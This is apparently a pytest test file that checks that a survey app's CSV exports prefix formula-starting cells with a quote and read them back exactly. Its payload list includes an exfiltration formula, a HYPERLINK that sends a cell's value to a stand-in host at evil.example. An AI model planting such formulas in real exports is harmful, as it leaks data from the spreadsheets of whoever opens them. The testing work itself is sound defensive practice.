"""No CSV we write can run in a spreadsheet, and our readers get the exact text back.

Issue 10, item 11: every text cell that begins with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return is written with a leading ``'``
(``analysis.csv_safe``) in ``flask export`` (responses.csv and comments.csv),
``python -m analysis themes --out`` and ``scores --format csv --out``, the
demo's links file; numbers stay numbers (-12 is written ``-12``). The loader
reads a guarded export back to the exact original text.
"""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from analysis import csv_safe
from analysis.cli import main as analysis_main
from analysis.loader import load_from_export
from analysis.scrub import Scrubber
from survey_app import db as dbmod
from survey_app import storage

#: The payloads of the issue, each a comment someone could type.
PAYLOADS = (
    '=HYPERLINK("https://evil.example/?leak="&A2,"Click for details")',
    "+1",
    "-x",
    "@a",
    "\t=1+1",
    "\r=1",
    "'=already quoted",
)


#: Everyday comments, varied enough for the themes to find groups.
VARIED_COMMENTS = (
    "The rota changes too late for the night shift",
    "Night shift rota is published far too late",
    "Parking at the depot is full by eight",
    "There is never parking near the depot",
    "The new scanners keep losing signal in the warehouse",
    "Scanners crash when the warehouse wifi drops",
    "Customers call us before the tracking page updates",
    "Tracking updates reach customers hours late",
    "Training on the portal was rushed",
    "More training on the customer portal please",
    "Our managers explain the delivery goal well",
    "I understand the 48 hour delivery goal",
    "Vans are not serviced often enough",
    "Van maintenance is always postponed",
    "Canteen food has got better this year",
    "The canteen closes before the late shift eats",
)

def _raw_rows(path):
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def _runs_in_a_spreadsheet(cell: str) -> bool:
    return cell[:1] in csv_safe.TRIGGERS


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _unsafe(cell: str) -> bool:
    """A text cell a spreadsheet would run (a number such as -12 is fine)."""
    return _runs_in_a_spreadsheet(cell) and not _is_number(cell)


@pytest.mark.parametrize("text", PAYLOADS + ("fine", "'tis", "", "a=b"))
def test_guard_then_unguard_gives_the_text_back(text):
    guarded = csv_safe.guard(text)
    assert not _runs_in_a_spreadsheet(guarded)
    assert csv_safe.unguard(guarded) == text


def test_everyday_text_and_numbers_are_written_as_they_are():
    assert csv_safe.guard("'tis the season") == "'tis the season"
    assert csv_safe.guard_row([-12, -0.5, 3, None]) == [-12, -0.5, 3, None]
    assert csv_safe.guard("\t=1+1") == "'\t=1+1"  # the tab is kept, behind the quote


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_guarding_is_a_bijection_that_never_starts_a_formula(text):
    guarded = csv_safe.guard(text)
    assert not _runs_in_a_spreadsheet(guarded)
    assert csv_safe.unguard(guarded) == text


@pytest.fixture
def exported(tmp_path, instrument, strategy):
    """A closed pulse whose comments are the payloads, one estimate -12, exported."""
    database = dbmod.connect(tmp_path / "p.db")
    try:
        dbmod.migrate(database)
        storage.create_pulse(database, slug="p", title="P", period="2026-Q4",
                             instrument=instrument, strategy=strategy, status="open")
        ids = {}
        for text in PAYLOADS:
            ids[storage.submit_response(database, pulse_slug="p", segments={},
                                        answers={"c_other": text, "k_nps": -12})] = text
        # Enough others that every comment stays in its row (min_comments).
        for _ in range(10):
            storage.submit_response(database, pulse_slug="p", answers={"enps": 5}, segments={})
        storage.set_pulse_status(database, "p", "closed")  # publishes them
        csv_path, json_path = storage.export_pulse(database, "p", tmp_path / "out")
    finally:
        database.close()
    return csv_path, json_path, ids


def test_the_export_guards_every_text_cell_and_keeps_numbers_numbers(exported):
    csv_path, _, ids = exported
    rows = {r["response_id"]: r for r in _raw_rows(csv_path)}
    for rid, text in ids.items():
        expected = Scrubber().scrub(text).text
        assert rows[rid]["c_other"] == csv_safe.guard(expected)
        assert not _runs_in_a_spreadsheet(rows[rid]["c_other"])
        assert rows[rid]["k_nps"] == "-12"  # a number, not the text '-12
    # The leading tab and carriage return survive (behind the quote).
    cells = {r["c_other"] for r in rows.values()}
    assert "'\t=1+1" in cells and "'\r=1" in cells
    for row in rows.values():
        assert not any(_unsafe(cell) for cell in row.values())


def test_the_loader_reads_a_guarded_export_back_to_the_exact_text(exported):
    csv_path, json_path, ids = exported
    data = load_from_export(csv_path, json_path)
    for rid, text in ids.items():
        assert data.responses.loc[rid, "c_other"] == Scrubber().scrub(text).text
        assert data.responses.loc[rid, "k_nps"] == -12.0


def test_comments_kept_apart_are_guarded_and_read_back(tmp_path, db, make_pulse):
    """comments.csv holds comments of small groups: guarded the same way."""
    pulse = make_pulse()  # groups of five: comments there must leave their rows
    for i, token in enumerate(pulse.tokens):
        answers = {"enps": 5}
        if i < len(PAYLOADS):
            answers["c_other"] = PAYLOADS[i]
        segments = {} if pulse.roster[i]["role_level"] else {"role_level": "staff"}
        storage.submit_response(db, pulse_slug=pulse.slug, answers=answers,
                                segments=segments, token=token)
    storage.set_pulse_status(db, pulse.slug, "closed")
    csv_path, json_path = storage.export_pulse(db, pulse.slug, tmp_path / "out")
    raw = _raw_rows(csv_path.with_name("comments.csv"))
    assert len(raw) == len(PAYLOADS)
    assert not any(_unsafe(cell) for r in raw for cell in r.values())
    data = load_from_export(csv_path, json_path)
    assert sorted(data.comments["text"]) == sorted(Scrubber().scrub(t).text for t in PAYLOADS)


def test_an_older_export_is_read_as_written(exported):
    """Format 2 and earlier were written unguarded: a leading ' there is the
    respondent's own, so the loader keeps it."""
    csv_path, json_path, ids = exported
    meta = json.loads(json_path.read_text(encoding="utf-8"))
    meta["format"] = 2
    json_path.write_text(json.dumps(meta), encoding="utf-8")
    data = load_from_export(csv_path, json_path)
    rid = next(r for r, t in ids.items() if t == "+1")
    assert data.responses.loc[rid, "c_other"] == "'+1"


def test_themes_out_is_guarded(tmp_path, capsys):
    source = tmp_path / "comments.csv"
    texts = list(PAYLOADS) + list(VARIED_COMMENTS)
    pd.DataFrame({"text": texts}).to_csv(source, index=False)
    out = tmp_path / "themes.csv"
    code = analysis_main(["themes", str(source), "--text-column", "text", "--out", str(out),
                          "--no-progress"])
    capsys.readouterr()
    assert code == 0
    rows = _raw_rows(out)
    assert len(rows) == len(texts)
    for row in rows:
        assert not any(_unsafe(cell) for cell in row.values()), row
    written = {csv_safe.unguard(r["text"]) for r in rows}
    assert "+1" in written and "-x" in written and "\t=1+1" in written
    # Numbers stay numbers: the catch-all themes' ids are written -1, not '-1.
    assert any(r["theme_id"].startswith("-") for r in rows)
    numeric = pd.read_csv(out)["theme_id"]
    assert pd.api.types.is_integer_dtype(numeric)


def test_scores_csv_out_keeps_negative_numbers_numeric(tmp_path, capsys):
    """The demo's perception gap has negative confidence bounds: written as
    numbers (-17.3...), never as guarded text ('-17.3...)."""
    from survey_app.demo import generate_demo

    database = dbmod.connect(tmp_path / "demo.sqlite3")
    try:
        dbmod.migrate(database)
        generate_demo(database, seed=0, links_csv=tmp_path / "links.csv")
    finally:
        database.close()
    out = tmp_path / "gap.csv"
    code = analysis_main(["scores", "--db", str(tmp_path / "demo.sqlite3"), "--survey",
                          "demo-2026-q4", "--format", "csv", "--table", "perception_gap",
                          "--out", str(out), "--no-progress"])
    captured = capsys.readouterr()
    assert code == 0, captured.err
    rows = _raw_rows(out)
    cells = [cell for row in rows for cell in row.values()]
    assert any(cell.startswith("-") and _is_number(cell) for cell in cells)
    assert not any(_unsafe(cell) for cell in cells)
    assert not any(cell.startswith("'") and _is_number(cell[1:]) for cell in cells)
    assert pd.api.types.is_float_dtype(pd.read_csv(out).select_dtypes("number").iloc[:, 0])


def test_the_demo_links_file_is_guarded_and_read_back(runner, app):
    """The demo rewrites its links file from what it reads: read guarded,
    written guarded, never guarded twice."""
    result = runner.invoke(args=["demo", "--no-reports", "--base-url", "http://127.0.0.1:5000"])
    assert result.exit_code == 0, result.output
    from survey_app.demo_commands import _demo_links_csv

    with app.app_context():
        links = str(_demo_links_csv())
    accounts = links.replace("invitations", "accounts")
    with open(accounts, encoding="utf-8", newline="") as handle:
        passwords = [r["password"] for r in csv.DictReader(handle)]
    assert not any(_runs_in_a_spreadsheet(p) for p in passwords)
    again = runner.invoke(args=["demo", "--if-empty", "--base-url", "http://127.0.0.1:5000"])
    assert again.exit_code == 0, again.output
    for password in passwords:
        assert f"password: {csv_safe.unguard(password)}\n" in again.output


def test_the_admin_links_file_round_trips_through_the_one_guard():
    """The links download and ``invite --out`` use analysis.csv_safe too: an
    email beginning with a formula character comes back exactly."""
    from survey_app.admin.links import links_csv

    rows = [("=cmd@example.com", "https://pulse.example.com/s/abc"),
            ("'+odd@example.com", "https://pulse.example.com/s/def"),
            ("ann@example.com", "https://pulse.example.com/s/ghi")]
    written = list(csv.reader(io.StringIO(links_csv(rows))))
    assert written[0] == ["email", "link"]
    assert not any(_unsafe(cell) for row in written for cell in row)
    assert [tuple(csv_safe.unguard(c) for c in row) for row in written[1:]] == rows


def test_the_reports_csv_guards_text_and_keeps_figures_numbers():
    """The reports' CSV downloads (survey_app.reports.content.to_csv) use the
    same guard: a theme's comment comes back exactly, a difference of -12 is
    the number -12.00."""
    from survey_app.reports.content import to_csv

    view = {
        "visible": True, "n": 14, "department": "Sales",
        "rows": [{"key": "index_strategy", "label": "Strategy", "score": 55.5, "visible": True,
                  "diff": -12.0}],
        "themes": [{"top_terms": ["rota", "late"], "label": "-rota, late", "size": 11,
                    "negative_share": 0.25, "representatives": list(PAYLOADS)}],
    }
    rows = list(csv.reader(io.StringIO(to_csv(view))))
    cells = [cell for row in rows for cell in row]
    assert not any(_unsafe(cell) for cell in cells)
    assert ["difference from company", "Sales", "index_strategy", "Strategy", "-12.00"] in rows
    comments = [csv_safe.unguard(r[4]) for r in rows if r[0] == "comment"]
    assert comments == list(PAYLOADS)
    assert csv_safe.unguard(next(r[3] for r in rows if r[0] == "theme")) == "-rota, late"
